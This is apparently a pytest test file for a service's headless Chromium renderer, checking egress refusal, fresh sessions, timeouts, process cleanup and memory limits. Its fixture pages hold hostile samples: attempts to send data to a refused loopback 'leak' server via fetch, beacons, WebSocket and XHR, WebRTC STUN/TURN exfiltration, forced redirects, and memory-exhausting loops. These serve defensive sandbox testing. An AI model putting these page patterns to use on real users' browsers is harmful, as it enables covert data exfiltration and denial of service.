"""The browser provider drives the real system Chromium against loopback pages: pages whose
scripts write their text are answered from the rendering, every request the browser makes
goes through the guarded fetcher (refused ones are never sent), and close() leaves no
process behind."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from external_query_service.browser import BrowserProvider
from external_query_service.errors import RenderFailed
from external_query_service.settings import BrowserSettings
from external_query_service.testing import LoopbackServer, Reply, World, hit
from tests.support.world import make_service

QUESTION = "湛江港今年货物吞吐量是多少？"
STORY = [
    "湛江港集团11月20日发布数据显示，今年前十个月湛江港货物吞吐量达到2.6亿吨，同比增长百分之八。",
    "集装箱航线持续加密，港口方面表示将继续推进智慧港口建设，提升通关效率和服务水平。",
]
#: An empty shell whose script fetches the story and writes it into the page after load.
SHELL = """<!doctype html><html lang="zh"><head><meta charset="utf-8">
<title>湛江港新闻</title></head><body><div id="app"></div>
<script>
window.addEventListener("load", () => {
  fetch("/story.json").then(r => r.json()).then(story => {
    const article = document.createElement("article");
    const paragraphs = story.paragraphs.map(p => "<p>" + p + "</p>").join("");
    article.innerHTML = "<h1>" + story.title + "</h1>" + paragraphs;
    document.getElementById("app").appendChild(article);
  });
});
</script></body></html>"""


@pytest.fixture
def refused() -> Iterator[LoopbackServer]:
    """A server on 127.0.0.2: reachable on this machine, outside the tests' allowed
    network (127.0.0.1/32), so the policy refuses every request to it."""
    with LoopbackServer("127.0.0.2") as server:
        server.route("/leak", Reply(body=b"leaked", content_type="text/plain"))
        yield server


def shell_site(world: World) -> str:
    world.route(
        world.url("port.test", "/story.json"),
        Reply(
            body=json.dumps({"title": "湛江港吞吐量再创新高", "paragraphs": STORY}).encode(),
            content_type="application/json",
        ),
    )
    url = world.page("port.test", "/news", SHELL)
    world.results(QUESTION, [hit(url, "湛江港新闻", "湛江港")])
    return url


def browser_section(mode: str, **options: object) -> dict[str, object]:
    return {"mode": mode, "page_timeout_s": 8.0, **options}


#: A question's deadline with room for renderings on a busy machine.
ROOMY = {"deadline_s": 20.0}


def test_a_script_written_article_is_answered_from_the_rendered_page(
    world: World, chromium: str
) -> None:
    url = shell_site(world)
    browser = browser_section("fallback")
    with make_service(world, world.searxng(), browser=browser, network=ROOMY) as service:
        service.warm_up()  # Chromium starts here, not within the question's deadline
        assert service.browser is not None
        assert service.browser.started
        answer = service.answer(QUESTION, {"entities": ["湛江港"]})

    assert answer.status == "answered"
    assert answer.evidence
    assert {item.rendered_by for item in answer.evidence} == {"browser"}
    assert any("2.6亿吨" in item.snippet for item in answer.evidence)
    rendered = answer.audit.named("attempt")[0].detail["rendered"]
    assert len(rendered) == 1
    assert rendered[0].startswith(f"{url} fallback:")
    assert world.requests_to("/story.json", host="port.test")


def test_with_the_browser_off_the_same_page_is_not_answered_and_nothing_starts(
    world: World,
) -> None:
    shell_site(world)
    with make_service(world, world.searxng()) as service:
        answer = service.answer(QUESTION, {"entities": ["湛江港"]})
        assert service.browser is None

    assert answer.status != "answered"
    assert not answer.evidence
    detail = answer.audit.named("attempt")[0].detail
    assert "rendered" not in detail
    assert detail["page_failures"][0].split(" ")[1].startswith("not_a_document:")
    assert not world.requests_to("/story.json", host="port.test")


def test_requests_to_refused_addresses_are_never_made(
    world: World, refused: LoopbackServer, chromium: str
) -> None:
    leak = f"http://127.0.0.2:{refused.port}/leak"
    mapped = f"http://leak.test:{refused.port}/leak"
    world.route(
        world.url("port.test", "/hop"), Reply(status=302, body=b"", headers={"location": leak})
    )
    page = f"""<html><body><article><p>{STORY[0]}</p></article>
    <img src="{leak}?beacon=1">
    <script src="{leak}?script=1"></script>
    <iframe src="{world.url("port.test", "/hop")}"></iframe>
    <script>
      fetch("{leak}?fetch=1").catch(() => 0);
      fetch("{mapped}?mapped=1").catch(() => 0);
      navigator.sendBeacon("{leak}?send=1", "x");
      try {{ new WebSocket("ws://127.0.0.2:{refused.port}/leak"); }} catch (e) {{}}
      const xhr = new XMLHttpRequest(); xhr.open("GET", "{leak}?xhr=1"); xhr.send();
    </script></body></html>"""
    # Served from a loopback address itself: Chromium's own private-network rules would not
    # stop its requests to 127.0.0.2, only the routing does.
    url = world.page("127.0.0.1", "/trap", page)
    settings = world.settings(network={"resolve": {"leak.test": "127.0.0.2"}})
    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), settings.network)

    async def render() -> tuple[str, ...]:
        session = await provider.session()
        try:
            rendering = await session.render(url)
        finally:
            await session.close()
        return rendering.refused

    try:
        refusals = asyncio.run(render())
    finally:
        provider.close()

    assert refused.requests == []
    assert f"{leak}?fetch=1" in refusals
    assert f"{mapped}?mapped=1" in refusals
    assert f"{leak}?beacon=1" in refusals
    assert world.requests_to("/hop", host="port.test")  # the redirect was asked for, not followed


def _descendants(root: int) -> set[int]:
    """Every live process below ``root``, read from /proc."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        fields = stat.rsplit(")", 1)[1].split()
        if fields[0] != "Z":
            parents[int(entry.name)] = int(fields[1])
    found: set[int] = set()
    frontier = {root}
    while frontier:
        frontier = {pid for pid, parent in parents.items() if parent in frontier} - found
        found |= frontier
    return found


def test_close_leaves_no_child_process(world: World, chromium: str) -> None:
    url = shell_site(world)
    before = _descendants(os.getpid())
    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)

    async def render() -> str:
        session = await provider.session("kept")
        await session.open_tab("mine")
        rendering = await session.render(url)
        return rendering.page.body.decode()

    html = asyncio.run(render())
    started = _descendants(os.getpid()) - before
    provider.close()

    assert "2.6亿吨" in html
    assert started  # the driver and Chromium's processes
    assert _descendants(os.getpid()) & started == set()
    assert not provider.started


def test_each_question_gets_a_fresh_session(world: World, chromium: str) -> None:
    page = """<html><body><script>
      document.body.textContent = "seen:" + (localStorage.getItem("seen") || "none");
      localStorage.setItem("seen", "yes"); document.cookie = "seen=yes";
    </script></body></html>"""
    url = world.page("port.test", "/memory", page)
    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)

    async def twice() -> list[str]:
        texts = []
        for _ in range(2):
            session = await provider.session()
            try:
                texts.append((await session.render(url)).page.body.decode())
            finally:
                await session.close()
        return texts

    try:
        first, second = asyncio.run(twice())
    finally:
        provider.close()

    assert "seen:none" in first
    assert "seen:none" in second
    assert all("cookie" not in request.headers for request in world.requests)


def test_renderings_per_question_are_capped(world: World, chromium: str) -> None:
    urls = []
    for n in (1, 2):
        world.route(
            world.url(f"port-{n}.test", "/story.json"),
            Reply(
                body=json.dumps({"title": "湛江港", "paragraphs": STORY}).encode(),
                content_type="application/json",
            ),
        )
        urls.append(world.page(f"port-{n}.test", "/news", SHELL))
    world.results(QUESTION, [hit(url, "湛江港新闻", "湛江港") for url in urls])
    browser = browser_section("fallback", max_pages=1)
    with make_service(world, world.searxng(), browser=browser, network=ROOMY) as service:
        service.warm_up()
        answer = service.answer(QUESTION, {"entities": ["湛江港"]})

    rendered = answer.audit.named("attempt")[0].detail["rendered"]
    assert sorted(note.split(" ")[2] for note in rendered)[0] == "failed:render_budget"
    assert sum(1 for note in rendered if "failed:" not in note) == 1


def test_a_rendering_ends_by_the_questions_deadline(world: World, chromium: str) -> None:
    served: list[int] = []

    def shell(_request: object) -> Reply:
        served.append(1)
        # The fetcher's read is quick; the browser's own read of the page hangs.
        return Reply(body=SHELL, delay_s=0.0 if len(served) == 1 else 5.0)

    url = world.route(world.url("port.test", "/news"), shell)
    world.results(QUESTION, [hit(url, "湛江港新闻", "湛江港")])
    browser = browser_section("fallback")
    with make_service(
        world, world.searxng(), browser=browser, network={"deadline_s": 3.0}
    ) as service:
        service.warm_up()
        answer = service.answer(QUESTION, {"entities": ["湛江港"]})

    attempt = answer.audit.named("attempt")[0].detail
    assert attempt["status"] == "empty"
    assert attempt["duration_ms"] < 3000
    assert attempt["rendered"] == [f"{url} fallback:no_main_text failed:render_timeout"]


def test_always_renders_every_html_page(world: World, chromium: str) -> None:
    article = (
        f"<html lang='zh'><head><meta charset='utf-8'><title>湛江港</title></head><body>"
        f"<article><h1>湛江港吞吐量再创新高</h1><p>{STORY[0]}</p><p>{STORY[1]}</p></article>"
        "</body></html>"
    )
    url = world.page("port.test", "/plain", article)
    world.results(QUESTION, [hit(url, "湛江港新闻", "湛江港")])
    browser = browser_section("always")
    with make_service(world, world.searxng(), browser=browser, network=ROOMY) as service:
        service.warm_up()
        answer = service.answer(QUESTION, {"entities": ["湛江港"]})

    assert answer.status == "answered"
    assert {item.rendered_by for item in answer.evidence} == {"browser"}
    assert answer.audit.named("attempt")[0].detail["rendered"][0].startswith(f"{url} always ")


def test_dialogs_pop_ups_and_downloads_are_refused(world: World, chromium: str) -> None:
    world.page("port.test", "/popup", "<p>a pop-up</p>")
    world.page("port.test", "/file.zip", b"PK\x03\x04", content_type="application/zip")
    page = f"""<html><body><article><p>{STORY[0]}</p></article><script>
      alert("hello"); confirm("sure?");
      window.open("/popup");
      const link = document.createElement("a"); link.href = "/file.zip"; link.download = "f.zip";
      document.body.appendChild(link); link.click();
    </script></body></html>"""
    url = world.page("port.test", "/noisy", page)
    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)

    async def render() -> tuple[str, int]:
        session = await provider.session("s")
        rendering = await session.render(url, tab="main")
        await asyncio.sleep(0.5)  # a pop-up would have loaded by now
        return rendering.page.body.decode(), session.pages_open

    try:
        html, pages = asyncio.run(render())
    finally:
        provider.close()

    assert STORY[0] in html
    assert pages == 1  # the pop-up was closed
    assert not world.requests_to("/popup", host="port.test")


@pytest.mark.parametrize(
    "sends",
    [
        pytest.param('<script>location.href = "{leak}";</script>', id="script-at-once"),
        pytest.param(
            '<script>setTimeout(() => {{ location.href = "{leak}"; }}, 50);</script>',
            id="script-after-load",
        ),
        pytest.param('<meta http-equiv="refresh" content="0; url={leak}">', id="meta-refresh"),
    ],
)
def test_a_page_that_sends_its_tab_to_a_refused_address_is_no_document(
    world: World, refused: LoopbackServer, chromium: str, sends: str
) -> None:
    leak = f"http://127.0.0.2:{refused.port}/leak"
    body = f"<html><head>{sends.format(leak=leak)}</head><body><p>{STORY[0]}</p></body></html>"
    url = world.page("port.test", "/away", body)
    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)

    async def render() -> None:
        session = await provider.session()
        try:
            with pytest.raises(RenderFailed) as failed:
                await session.render(url)
            assert failed.value.reason == "navigation_refused"
            assert failed.value.detail == leak
            # The browser is still usable: the next page renders.
            good = await session.render(world.page("port.test", "/good", f"<p>{STORY[1]}</p>"))
            assert STORY[1] in good.page.body.decode()
        finally:
            await session.close()

    try:
        asyncio.run(render())
    finally:
        provider.close()
    assert refused.requests == []


def test_in_a_question_such_a_page_fails_as_not_a_document_and_chromes_text_is_not_read(
    world: World, refused: LoopbackServer, chromium: str
) -> None:
    leak = f"http://127.0.0.2:{refused.port}/leak"
    away = world.page(
        "port.test", "/away", f'<script>location.href = "{leak}";</script><p>{STORY[0]}</p>'
    )
    world.results(QUESTION, [hit(away, "湛江港新闻", "湛江港")])
    with make_service(
        world, world.searxng(), browser=browser_section("always"), network=ROOMY
    ) as service:
        service.warm_up()
        answer = service.answer(QUESTION, {"entities": ["湛江港"]})

    assert not answer.evidence
    detail = answer.audit.named("attempt")[0].detail
    assert detail["page_failures"] == [f"{away} not_a_document:always"]
    assert detail["rendered"] == [f"{away} always failed:navigation_refused"]
    assert "chrome-error" not in answer.model_dump_json()


def test_a_tab_that_ends_on_no_web_page_is_no_document(world: World, chromium: str) -> None:
    url = world.page(
        "port.test",
        "/blank",
        f'<p>{STORY[0]}</p><script>setTimeout(() => {{ location.href = "about:blank"; }}, 20);'
        "</script>",
    )
    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)

    async def render() -> RenderFailed:
        session = await provider.session()
        try:
            with pytest.raises(RenderFailed) as failed:
                await session.render(url)
            return failed.value
        finally:
            await session.close()

    try:
        failure = asyncio.run(render())
    finally:
        provider.close()
    assert (failure.reason, failure.detail) == ("error_page", "about:blank")


class _Canary:
    """A UDP and a TCP listener on 127.0.0.1 that note every datagram and connection."""

    def __init__(self) -> None:
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.05)
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.settimeout(0.05)
        self.heard: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while not self._stop.is_set():
            with contextlib.suppress(TimeoutError, OSError):
                data, peer = self.udp.recvfrom(65536)
                self.heard.append(f"udp {peer} {data[:40]!r}")
            with contextlib.suppress(TimeoutError, OSError):
                connection, peer = self.tcp.accept()
                self.heard.append(f"tcp {peer}")
                connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.udp.close()
        self.tcp.close()


#: A page that gathers ICE candidates through STUN and TURN servers the page chose: UDP
#: for STUN and TURN/UDP, TCP for TURN/TCP (the TURN username is bytes the page picks).
WEBRTC = """<html><body><p>{story}</p><script>
const servers = [
  {{urls: "stun:127.0.0.1:{udp}"}},
  {{urls: "turn:127.0.0.1:{udp}?transport=udp", username: "exfil-bytes", credential: "x"}},
  {{urls: "turn:127.0.0.1:{tcp}?transport=tcp", username: "exfil-bytes", credential: "x"}},
];
try {{
  const pc = new RTCPeerConnection({{iceServers: servers, iceCandidatePoolSize: 4}});
  pc.createDataChannel("x");
  pc.createOffer().then(offer => pc.setLocalDescription(offer));
}} catch (e) {{ document.title = "no webrtc"; }}
</script></body></html>"""


def test_webrtc_sends_nothing_to_stun_or_turn_servers_a_page_names(
    world: World, chromium: str
) -> None:
    canary = _Canary()
    try:
        udp, tcp = canary.udp.getsockname()[1], canary.tcp.getsockname()[1]
        url = world.page("port.test", "/rtc", WEBRTC.format(story=STORY[0], udp=udp, tcp=tcp))
        provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)

        async def render() -> None:
            session = await provider.session()
            try:
                await session.render(url)
                await asyncio.sleep(1.5)  # candidates gathered late still count
            finally:
                await session.close()

        try:
            asyncio.run(render())
        finally:
            provider.close()
    finally:
        canary.close()
    assert canary.heard == []


@pytest.mark.parametrize(
    "allocate",
    [
        pytest.param("hold.push(new Array(1 << 20).fill(n))", id="js-arrays"),
        pytest.param("hold.push(new Uint8Array(16 << 20).fill(n & 255))", id="array-buffers"),
    ],
)
def test_a_page_allocating_in_a_loop_is_refused_and_the_browser_stays_usable(
    world: World, chromium: str, allocate: str
) -> None:
    # The page also writes a number a round, so the rendering waits on it (its text is not
    # settled) while it allocates: a page whose DOM stood still would be read as soon as
    # it settled, before a loaded machine's renderer reached the limit.
    hog = world.page(
        "port.test",
        "/hog",
        f"<p>{STORY[0]}</p><script>const hold = []; let n = 0;"
        f"function grow() {{ for (let i = 0; i < 8; i++) {{ n++; {allocate}; }}"
        " document.body.append(String(n)); setTimeout(grow, 0); } grow();</script>",
    )
    plain = world.page("port.test", "/plain", f"<p>{STORY[1]}</p>")
    provider = BrowserProvider(BrowserSettings(page_timeout_s=8.0), world.settings().network)

    async def render() -> tuple[RenderFailed, str]:
        session = await provider.session()
        try:
            with pytest.raises(RenderFailed) as failed:
                await session.render(hog)
            after = await session.render(plain)
            return failed.value, after.page.body.decode()
        finally:
            await session.close()

    try:
        failure, after = asyncio.run(render())
        kills = provider.memory_kills
    finally:
        provider.close()
    assert failure.reason == "render_memory"
    assert kills >= 1
    assert STORY[1] in after  # the next page renders in the same browser
